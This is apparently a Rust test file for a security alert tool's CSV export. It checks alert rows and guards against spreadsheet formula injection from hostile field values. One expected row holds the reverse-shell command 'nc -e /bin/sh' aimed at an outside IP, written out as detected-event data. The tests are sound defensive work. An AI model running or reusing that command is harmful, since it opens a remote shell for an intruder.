use super::*;
use crate::output::alerts::scene::{named, shell, written};
use crate::output::scene::HOSTILE;
use crate::output::unseen::is_unseen;

#[test]
fn an_alert_is_a_row() {
    let rows = written(&mut Csv::new(), &[shell()]);
    assert_eq!(
        rows,
        "time,score,rule,function,by_field,value,partition,host,connections,process,command_line,\
        user,destination_ip,destination_port,first_seen,last_seen,buckets_seen,buckets_total,\
        cadence,probability,severity,risk_score,provisional,expected,exception,why,alert_id\n\
        2026-08-14T10:15:00.000Z,76.0,unusual_linux_network_activity,rare,process.name,nc,,web-01,\
        2,nc,nc -e /bin/sh 93.184.216.34 443,lab,93.184.216.34,443,2026-08-14T10:15:00.000Z,,1,\
        1289,none,4.82017e-4,low,21,false,false,,\"nc was seen in 1 of 1,289 active quarter-hours \
        since 1 Aug, never before; 5 other programs make up the rest; in about 11 of them it would \
        be ordinary (score below 50)\",92b0934275dccf84\n"
    );
}

#[test]
fn hostile_names_make_one_row_of_as_many_cells_and_none_is_run() {
    let columns = COLUMNS.matches(',').count();
    for name in HOSTILE {
        let rows = written(&mut Csv::new(), &[named(name)]);
        assert_eq!(rows.matches('\n').count(), 2, "{rows}");
        assert!(!rows.chars().any(|c| c != '\n' && is_unseen(c)), "{rows}");
        let cells = cells(rows.lines().nth(1).expect("a row"));
        assert_eq!(cells.len(), columns + 1, "{rows}");
        let is_run = |cell: &&String| cell.trim_start().starts_with(['=', '+', '-', '@']);
        assert_eq!(cells.iter().find(is_run), None, "{rows}");
    }
}

/// The cells of a row, as a spreadsheet reads them.
fn cells(row: &str) -> Vec<String> {
    let (mut cells, mut is_quoted) = (vec![String::new()], false);
    let mut letters = row.chars().peekable();
    while let Some(letter) = letters.next() {
        let cell = cells.last_mut().expect("one");
        match letter {
            '"' if is_quoted && letters.next_if_eq(&'"').is_some() => cell.push('"'),
            '"' => is_quoted = !is_quoted,
            ',' if !is_quoted => cells.push(String::new()),
            other => cell.push(other),
        }
    }
    cells
}
